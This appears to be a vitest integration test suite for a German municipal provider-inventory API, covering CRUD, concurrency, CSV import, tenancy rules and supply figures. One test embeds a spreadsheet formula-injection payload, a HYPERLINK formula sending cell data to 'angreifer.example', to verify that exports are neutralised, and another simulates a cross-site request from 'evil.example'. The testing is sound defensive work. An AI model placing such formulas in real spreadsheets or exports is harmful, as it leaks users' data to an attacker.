import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { getAuth } from "@/lib/server/auth/auth";
import { loadCaller, type TenantContext } from "@/lib/server/auth/guard";
import { registerProcessDatabase } from "@/lib/server/db/client";
import { listProviders, replaceProvidersFromCsv, resolveProviderOwner } from "@/lib/server/db/tenant/providers";
import { calculateSupply, supplyAnswersForAssessment, supplyParametersAt } from "@/lib/domain/supply";
import { seedKnowledge } from "@/prisma/seed/knowledge";
import { MAX_CSV_PROVIDERS, serializeProvidersCsv } from "@/lib/domain/csv/providers";
import type { ProviderInput } from "@/lib/domain/schemas/provider";
import * as providersRoute from "@/app/api/v1/municipalities/[ags]/providers/route";
import * as providerRoute from "@/app/api/v1/municipalities/[ags]/providers/[id]/route";
import * as importRoute from "@/app/api/v1/municipalities/[ags]/providers/import/route";
import * as supplyRoute from "@/app/api/v1/municipalities/[ags]/supply/route";
import { createTestDatabase, testDatabaseKinds, type TestDatabase } from "../support/databases";
import { call, DOERENTRUP, EXTERTAL, LIPPE, seedTerritory, signUp } from "../support/tenancy";
import { knowledgeFromFiles } from "@/lib/knowledge/snapshot-files";
import { insertOrganisation } from "@/lib/server/db/organisation-records";

const K = knowledgeFromFiles();

/**
 * Provider inventory and supply check: CRUD through the route handlers, optimistic concurrency, CSV import all or
 * nothing through the data layer (good file, two bad rows, umlauts + semicolons + BOM), the owner rule, and the
 * supply endpoint's figures equal calculateSupply's — on both databases.
 */
const practice = (name: string, overrides: Partial<ProviderInput> = {}): ProviderInput => ({
  kind: "gp-practice",
  name,
  street: "Marktstraße 1",
  postcode: "32694",
  city: "Dörentrup",
  successorStatus: "none",
  doctors: [
    { name: "Dr. Älter", birthYear: 1958, employment: "licensed", licence: "full", plannedExitYear: 2027 },
    { name: "Ärztin B", birthYear: 1985, employment: "employed", weeklyHours: 25 },
  ],
  ...overrides,
});

const HEADER = "Nr.;Art;Name;Straße;PLZ;Ort;Nachfolge;Ärztin oder Arzt;Geburtsjahr;Alter;Tätigkeit;Versorgungsauftrag;Wochenstunden;Geplantes Abgabejahr";

describe.each(testDatabaseKinds)("provider inventory on %s", (kind) => {
  let db: TestDatabase;
  let editor: { cookie: string; userId: string };
  let viewer: { cookie: string; userId: string };
  let countyAdmin: { cookie: string; userId: string };
  let townOrgId: string;
  const base = `/api/v1/municipalities/${DOERENTRUP}/providers`;

  async function ctxOf(userId: string, email: string): Promise<TenantContext> {
    return { prisma: db.prisma, caller: await loadCaller(db.prisma, { id: userId, email, name: email }) };
  }

  beforeAll(async () => {
    db = await createTestDatabase(kind);
    registerProcessDatabase(db);
    await seedTerritory(db.prisma);
    // The supply figures use the rule parameters stored in the database, as the server seeds them.
    await seedKnowledge(db.prisma, () => {});
    const auth = await getAuth();
    editor = await signUp(auth, "editor@providers.test", "Edith");
    viewer = await signUp(auth, "viewer@providers.test", "Viktor");
    countyAdmin = await signUp(auth, "county@providers.test", "Kreis");
    const town = await insertOrganisation(db.prisma, { kind: "TOWN", name: "Gemeinde Dörentrup", municipalityAgs: DOERENTRUP }, [{ userId: editor.userId, role: "EDITOR" }, { userId: viewer.userId, role: "VIEWER" }], { id: true });
    townOrgId = town.id;
    await insertOrganisation(db.prisma, { kind: "COUNTY", name: "Kreis Lippe", kreisKey: LIPPE }, [{ userId: countyAdmin.userId, role: "ADMIN" }], { id: true });
  });
  afterAll(async () => db?.close());
  beforeEach(async () => {
    registerProcessDatabase(db);
    await db.prisma.provider.deleteMany();
    await db.prisma.countyAccessGrant.deleteMany();
  });

  it("creates, lists, changes and deletes a provider through the route handlers, audited", async () => {
    const auditBefore = await db.prisma.auditLog.count();
    const created = await call(providersRoute.POST, "POST", base, { ags: DOERENTRUP }, { cookie: editor.cookie, body: practice("Praxis am Markt") });
    expect(created.status, await created.clone().text()).toBe(201);
    const provider = (await created.json()).data as { id: string; version: number; doctors: unknown[] };
    expect(provider).toMatchObject({ version: 1, name: "Praxis am Markt", kind: "gp-practice" });
    expect(provider.doctors).toHaveLength(2);

    const list = await call(providersRoute.GET, "GET", base, { ags: DOERENTRUP }, { cookie: viewer.cookie });
    const inventory = (await list.json()).data as { owner: { organisationId: string; via: string }; providers: Array<{ id: string }> };
    expect(inventory.owner).toMatchObject({ organisationId: townOrgId, via: "town-member" });
    expect(inventory.providers.map((p) => p.id)).toEqual([provider.id]);

    const path = `${base}/${provider.id}`;
    const params = { ags: DOERENTRUP, id: provider.id };
    const patched = await call(providerRoute.PATCH, "PATCH", path, params, {
      cookie: editor.cookie,
      body: { version: 1, successorStatus: "searching", doctors: [{ birthYear: 1960, employment: "licensed", licence: "half" }] },
    });
    expect(patched.status, await patched.clone().text()).toBe(200);
    expect((await patched.json()).data).toMatchObject({ version: 2, successorStatus: "searching", name: "Praxis am Markt", doctors: [{ birthYear: 1960, licence: "half" }] });

    // A viewer may read but not change.
    expect((await call(providerRoute.GET, "GET", path, params, { cookie: viewer.cookie })).status).toBe(200);
    expect((await call(providerRoute.DELETE, "DELETE", path, params, { cookie: viewer.cookie })).status).toBe(403);

    const deleted = await call(providerRoute.DELETE, "DELETE", `${path}?version=2`, params, { cookie: editor.cookie });
    expect(deleted.status).toBe(204);
    expect((await call(providerRoute.GET, "GET", path, params, { cookie: editor.cookie })).status).toBe(404);
    const actions = (await db.prisma.auditLog.findMany({ orderBy: { createdAt: "asc" }, skip: auditBefore })).map((a) => a.action);
    expect(actions).toEqual(["provider.create", "provider.update", "provider.delete"]);
  });

  it("answers a bad provider with 400 naming the field in German", async () => {
    const response = await call(providersRoute.POST, "POST", base, { ags: DOERENTRUP }, {
      cookie: editor.cookie,
      body: practice("Praxis", { postcode: "3269", doctors: [{ birthYear: 1970, employment: "employed" }] }),
    });
    expect(response.status).toBe(400);
    const body = (await response.json()) as { error: { issues: Array<{ path: string; message: string }> } };
    expect(body.error.issues).toEqual(
      expect.arrayContaining([
        { path: "postcode", message: "Bitte eine fünfstellige Postleitzahl angeben." },
        { path: "doctors.0.weeklyHours", message: "Bei angestellten Ärztinnen und Ärzten bitte die Wochenstunden angeben." },
      ]),
    );
    expect(await db.prisma.provider.count()).toBe(0);
  });

  it("refuses a stale version with 409, both states in the answer, and changes nothing", async () => {
    const created = (await (await call(providersRoute.POST, "POST", base, { ags: DOERENTRUP }, { cookie: editor.cookie, body: practice("Praxis Nord") })).json()).data as { id: string };
    const path = `${base}/${created.id}`;
    const params = { ags: DOERENTRUP, id: created.id };
    const first = await call(providerRoute.PATCH, "PATCH", path, params, { cookie: editor.cookie, body: { version: 1, name: "Praxis Nord (Anna)" } });
    expect(first.status).toBe(200);
    const stale = await call(providerRoute.PATCH, "PATCH", path, params, { cookie: editor.cookie, body: { version: 1, name: "Praxis Nord (Ben)" } });
    expect(stale.status).toBe(409);
    const body = (await stale.json()) as { error: { code: string; current: { name: string; version: number }; submitted: { name: string } } };
    expect(body.error.code).toBe("conflict");
    expect(body.error.current).toMatchObject({ name: "Praxis Nord (Anna)", version: 2 });
    expect(body.error.submitted).toMatchObject({ name: "Praxis Nord (Ben)" });
    const staleDelete = await call(providerRoute.DELETE, "DELETE", `${path}?version=1`, params, { cookie: editor.cookie });
    expect(staleDelete.status).toBe(409);
    const stored = await db.prisma.provider.findUniqueOrThrow({ where: { id: created.id } });
    expect(stored).toMatchObject({ name: "Praxis Nord (Anna)", version: 2 });
  });

  it("imports a good CSV file: replaces the inventory, reports the changes", async () => {
    const ctx = await ctxOf(editor.userId, "editor@providers.test");
    await call(providersRoute.POST, "POST", base, { ags: DOERENTRUP }, { cookie: editor.cookie, body: practice("Alte Praxis") });
    const csv = [
      HEADER,
      "1;Hausarztpraxis;Praxis am Markt;Marktstraße 1;32694;Dörentrup;gesucht;Dr. A;1959;;zugelassen;voll;;2027",
      "1;Hausarztpraxis;Praxis am Markt;Marktstraße 1;32694;Dörentrup;gesucht;Dr. B;1980;;angestellt;;30;",
      "2;Apotheke;Löwen-Apotheke;Hauptstraße 5;32694;Dörentrup;keine;;;;;;;",
    ].join("\n");
    const outcome = await replaceProvidersFromCsv(ctx, DOERENTRUP, csv);
    expect(outcome.ok).toBe(true);
    if (!outcome.ok) return;
    expect(outcome.summary).toMatchObject({ added: 2, removed: 1, providersBefore: 1, providersAfter: 2, doctorsAfter: 2 });
    const inventory = await listProviders(ctx, DOERENTRUP);
    expect(inventory.providers.map((p) => [p.name, p.doctors.length])).toEqual([
      ["Praxis am Markt", 2],
      ["Löwen-Apotheke", 0],
    ]);
    expect(inventory.providers[0]!.doctors[1]).toMatchObject({ employment: "employed", weeklyHours: 30 });
    expect(await db.prisma.auditLog.count({ where: { action: "provider.import" } })).toBeGreaterThan(0);
  });

  it("applies nothing from a file with two bad rows and reports both with line and reason", async () => {
    const ctx = await ctxOf(editor.userId, "editor@providers.test");
    await call(providersRoute.POST, "POST", base, { ags: DOERENTRUP }, { cookie: editor.cookie, body: practice("Bleibt") });
    const before = JSON.stringify(await db.prisma.provider.findMany({ include: { doctors: true }, orderBy: { id: "asc" } }));
    const csv = [
      HEADER,
      "1;Hausarztpraxis;Praxis am Markt;Marktstraße 1;32694;Dörentrup;keine;Dr. A;1959;;zugelassen;voll;;",
      "2;Zahnarzt;Praxis Süd;Südstraße 2;32694;Dörentrup;keine;;;;;;;",
      "3;Hausarztpraxis;Praxis Ost;Oststraße 3;3269;Dörentrup;keine;Dr. C;1970;;angestellt;;;",
    ].join("\n");
    const outcome = await replaceProvidersFromCsv(ctx, DOERENTRUP, csv);
    expect(outcome.ok).toBe(false);
    if (outcome.ok) return;
    expect([...new Set(outcome.errors.map((e) => e.line))]).toEqual([3, 4]);
    expect(outcome.errors.find((e) => e.line === 3)).toMatchObject({ column: "Art" });
    expect(outcome.errors.filter((e) => e.line === 4).map((e) => e.column).sort()).toEqual(["PLZ", "Wochenstunden"]);
    expect(JSON.stringify(await db.prisma.provider.findMany({ include: { doctors: true }, orderBy: { id: "asc" } }))).toBe(before);

    // The same through the import route: 400 with every row, nothing applied.
    const response = await call(importRoute.POST, "POST", `${base}/import`, { ags: DOERENTRUP }, { cookie: editor.cookie, body: { csv, mode: "apply" } });
    expect(response.status).toBe(400);
    const body = (await response.json()) as { error: { rows: Array<{ line: number }> } };
    expect(new Set(body.error.rows.map((r) => r.line))).toEqual(new Set([3, 4]));
    expect(JSON.stringify(await db.prisma.provider.findMany({ include: { doctors: true }, orderBy: { id: "asc" } }))).toBe(before);
  });

  const manyRows = (providers: number, doctorsEach: number) => {
    const lines = [HEADER];
    for (let p = 1; p <= providers; p++) {
      for (let d = 1; d <= doctorsEach; d++) lines.push(`${p};Hausarztpraxis;Praxis ${p};Weg ${p};32694;Dörentrup;keine;Dr. ${p}-${d};1970;;zugelassen;voll;;`);
    }
    return lines.join("\n");
  };
  const snapshot = async () =>
    JSON.stringify([
      await db.prisma.provider.findMany({ include: { doctors: { orderBy: { id: "asc" } } }, orderBy: { id: "asc" } }),
      await db.prisma.auditLog.count(),
    ]);

  it("refuses a file over the cap with a German message and changes nothing", async () => {
    await call(providersRoute.POST, "POST", base, { ags: DOERENTRUP }, { cookie: editor.cookie, body: practice("Bleibt") });
    const before = await snapshot();
    const csv = manyRows(MAX_CSV_PROVIDERS + 1, 1);
    const response = await call(importRoute.POST, "POST", `${base}/import`, { ags: DOERENTRUP }, { cookie: editor.cookie, body: { csv, mode: "apply" } });
    expect(response.status).toBe(400);
    const body = (await response.json()) as { error: { message: string; rows: Array<{ line: number; message: string }> } };
    expect(body.error.rows).toEqual([{ line: 1, message: expect.stringContaining("erlaubt sind höchstens 5.000 Einrichtungen je Gemeinde") }]);
    expect(await snapshot()).toBe(before);
  });

  it("a large import writes a small audit entry (counts, not the inventory) and is still all or nothing", async () => {
    const ctx = await ctxOf(editor.userId, "editor@providers.test");
    const csv = manyRows(1_200, 3); // several insert batches of providers and of doctors
    const outcome = await replaceProvidersFromCsv(ctx, DOERENTRUP, csv);
    expect(outcome.ok).toBe(true);
    const inventory = await listProviders(ctx, DOERENTRUP);
    expect(inventory.providers).toHaveLength(1_200);
    expect(inventory.providers.slice(0, 3).map((p) => p.name)).toEqual(["Praxis 1", "Praxis 2", "Praxis 3"]); // file order
    expect(inventory.providers.at(-1)!.doctors.map((d) => d.name)).toEqual(["Dr. 1200-1", "Dr. 1200-2", "Dr. 1200-3"]);
    const audit = await db.prisma.auditLog.findFirstOrThrow({ where: { action: "provider.import" }, orderBy: { createdAt: "desc" } });
    expect(JSON.stringify([audit.before, audit.after]).length).toBeLessThan(1_000);
    expect(audit.after).toMatchObject({ providers: 1_200, doctors: 3_600, summary: { added: 1_200, providersAfter: 1_200 } });

    // A database failure in the middle of the batched inserts (the fourth insert statement: the second batch of
    // doctors, after both provider batches) rolls back everything.
    const before = await snapshot();
    let batches = 0;
    const failing = new Proxy(db.prisma, {
      get(target, prop, receiver) {
        if (prop !== "$transaction") return Reflect.get(target, prop, receiver);
        return (fn: (tx: unknown) => Promise<unknown>, options?: { timeout?: number }) =>
          target.$transaction(
            (tx) =>
              fn(
                new Proxy(tx, {
                  get(t, p, r) {
                    if (p !== "$executeRawUnsafe") return Reflect.get(t, p, r);
                    return (query: string, ...values: unknown[]) => {
                      if (++batches === 4) throw new Error("simulierter Datenbankfehler");
                      return t.$executeRawUnsafe(query, ...values);
                    };
                  },
                }),
              ),
            options,
          );
      },
    });
    await expect(replaceProvidersFromCsv({ ...ctx, prisma: failing }, DOERENTRUP, manyRows(900, 2))).rejects.toThrow("simulierter Datenbankfehler");
    expect(batches).toBe(4);
    expect(await snapshot()).toBe(before);
  });

  it("a downloaded CSV carries no live formula, and importing it back gives the same data", async () => {
    const hostile = practice('=HYPERLINK("https://angreifer.example/?d="&B2;"Details")', {
      street: "+49 Weg 1",
      doctors: [{ name: "@SUMME(A1:A9)", birthYear: 1960, employment: "licensed", licence: "full" }, { name: "'Apostroph", birthYear: 1980, employment: "employed", weeklyHours: 20 }],
    });
    expect((await call(providersRoute.POST, "POST", base, { ags: DOERENTRUP }, { cookie: editor.cookie, body: hostile })).status).toBe(201);
    const strip = (list: Array<Record<string, unknown>>) => list.map(({ id: _id, version: _v, updatedAt: _u, ...rest }) => rest);
    const ctx = await ctxOf(editor.userId, "editor@providers.test");
    const before = strip((await listProviders(ctx, DOERENTRUP)).providers);
    const download = await call(providersRoute.GET, "GET", `${base}?format=csv`, { ags: DOERENTRUP }, { cookie: editor.cookie });
    const csv = await download.text();
    const cells = csv.replace(/^\uFEFF/, "").split("\r\n").flatMap((line) => line.split(";")).map((cell) => cell.replace(/^"/, ""));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells.some((cell) => cell.startsWith("'=HYPERLINK"))).toBe(true);
    const applied = await call(importRoute.POST, "POST", `${base}/import`, { ags: DOERENTRUP }, { cookie: editor.cookie, body: { csv, mode: "apply" } });
    expect(applied.status).toBe(200);
    expect(strip((await listProviders(ctx, DOERENTRUP)).providers)).toEqual(before);
  });

  it("reads a file as Excel writes it: BOM, semicolons, CRLF, umlauts and a quoted semicolon", async () => {
    const ctx = await ctxOf(editor.userId, "editor@providers.test");
    const csv =
      "\uFEFF" +
      [
        HEADER,
        '1;Hausarztpraxis;"Praxis Dr. Müller; Schäfer";Lüdenhauser Straße 12;32694;Dörentrup;gefunden;Dr. Jürgen Müller;1957;;zugelassen;drei Viertel;;2026',
        "2;Pflegedienst;Häusliche Pflege Großmann;Bösingfelder Weg 3;32694;Dörentrup-Hillentrup;keine;;;;;;;",
      ].join("\r\n") +
      "\r\n";
    const outcome = await replaceProvidersFromCsv(ctx, DOERENTRUP, csv);
    expect(outcome.ok, JSON.stringify(outcome)).toBe(true);
    const inventory = await listProviders(ctx, DOERENTRUP);
    expect(inventory.providers[0]).toMatchObject({
      name: "Praxis Dr. Müller; Schäfer",
      street: "Lüdenhauser Straße 12",
      successorStatus: "found",
      doctors: [{ name: "Dr. Jürgen Müller", licence: "three-quarter", plannedExitYear: 2026 }],
    });
    expect(inventory.providers[1]).toMatchObject({ kind: "nursing-service", name: "Häusliche Pflege Großmann", city: "Dörentrup-Hillentrup" });
    // Export and re-import give the same inventory.
    const exported = serializeProvidersCsv(inventory.providers);
    expect(exported.startsWith("\uFEFF")).toBe(true);
    const again = await replaceProvidersFromCsv(ctx, DOERENTRUP, exported);
    expect(again.ok && again.summary).toMatchObject({ unchanged: 2, added: 0, removed: 0, changed: 0 });
  });

  it("the supply endpoint returns calculateSupply's figures for the stored inventory", async () => {
    for (const p of [
      practice("Praxis am Markt"),
      practice("Praxis Ost", { successorStatus: "found", doctors: [{ birthYear: 1962, employment: "licensed", licence: "three-quarter" }] }),
      practice("Löwen-Apotheke", { kind: "pharmacy", doctors: [] }),
    ]) {
      expect((await call(providersRoute.POST, "POST", base, { ags: DOERENTRUP }, { cookie: editor.cookie, body: p })).status).toBe(201);
    }
    const response = await call(supplyRoute.GET, "GET", `/api/v1/municipalities/${DOERENTRUP}/supply?kvFigure=82,5&retirementAge=67`, { ags: DOERENTRUP }, { cookie: viewer.cookie });
    expect(response.status, await response.clone().text()).toBe(200);
    const body = (await response.json()) as { data: { result: unknown; assessmentAnswers: unknown; assessmentPrefill: { supply: { practices: number } } } };

    const ctx = await ctxOf(viewer.userId, "viewer@providers.test");
    const { providers } = await listProviders(ctx, DOERENTRUP);
    const asOf = new Date().toISOString().slice(0, 10);
    const expected = calculateSupply(
      { providers, inhabitants: 7660, asOf, kvFigure: { versorgungsgrad: 82.5 }, retirementAge: 67 },
      supplyParametersAt(K.ruleParameters, asOf),
    );
    expect(body.data.result).toEqual(JSON.parse(JSON.stringify(expected)));
    expect(body.data.assessmentAnswers).toEqual(supplyAnswersForAssessment(expected));
    expect(body.data.assessmentPrefill.supply.practices).toBe(2);
    expect((body.data.result as { versorgungsgrad: { basis: string; ratio: { version: string } } }).versorgungsgrad).toMatchObject({ basis: "kv" });

    const bad = await call(supplyRoute.GET, "GET", `/api/v1/municipalities/${DOERENTRUP}/supply?retirementAge=abc`, { ags: DOERENTRUP }, { cookie: viewer.cookie });
    expect(bad.status).toBe(400);
    expect((await bad.json()).error.message).toContain("retirementAge");
  });

  it("owner rule: a county member works on the county's inventory; a town's grant shows the town's, read-only", async () => {
    const county = await ctxOf(countyAdmin.userId, "county@providers.test");
    expect(await resolveProviderOwner(county, DOERENTRUP)).toMatchObject({ organisationKind: "COUNTY", via: "county-member" });
    const countyOrg = await db.prisma.organisation.findFirstOrThrow({ where: { kind: "COUNTY" } });
    await db.prisma.countyAccessGrant.create({ data: { townOrganisationId: townOrgId, countyOrganisationId: countyOrg.id } });
    const granted = await ctxOf(countyAdmin.userId, "county@providers.test");
    // Two candidates now (the county's own inventory and the granting town's): nothing is inferred, the caller chooses.
    await expect(resolveProviderOwner(granted, DOERENTRUP)).rejects.toMatchObject({ details: { reason: "choose_organisation" } });
    expect((await call(providersRoute.GET, "GET", base, { ags: DOERENTRUP }, { cookie: countyAdmin.cookie })).status).toBe(409);
    expect(await resolveProviderOwner({ ...granted, organisationId: townOrgId }, DOERENTRUP)).toMatchObject({ organisationId: townOrgId, via: "county-grant" });
    expect(await resolveProviderOwner({ ...granted, organisationId: countyOrg.id }, DOERENTRUP)).toMatchObject({ organisationId: countyOrg.id, via: "county-member" });
    expect((await call(providersRoute.GET, "GET", `${base}?org=${townOrgId}`, { ags: DOERENTRUP }, { cookie: countyAdmin.cookie })).status).toBe(200);
    const write = await call(providersRoute.POST, "POST", `${base}?org=${townOrgId}`, { ags: DOERENTRUP }, { cookie: countyAdmin.cookie, body: practice("Vom Kreis") });
    expect(write.status).toBe(403);
    // A town member of Dörentrup has no inventory for Extertal (404, nothing leaks); signed out → 401.
    expect((await call(providersRoute.GET, "GET", `/api/v1/municipalities/${EXTERTAL}/providers`, { ags: EXTERTAL }, { cookie: editor.cookie })).status).toBe(404);
    expect((await call(providersRoute.GET, "GET", base, { ags: DOERENTRUP })).status).toBe(401);
  });

  it("refuses a cross-site create even with an editor's session", async () => {
    const response = await call(providersRoute.POST, "POST", base, { ags: DOERENTRUP }, { cookie: editor.cookie, origin: "https://evil.example", body: practice("Fremd") });
    expect(response.status).toBe(403);
    expect(await db.prisma.provider.count()).toBe(0);
  });
});
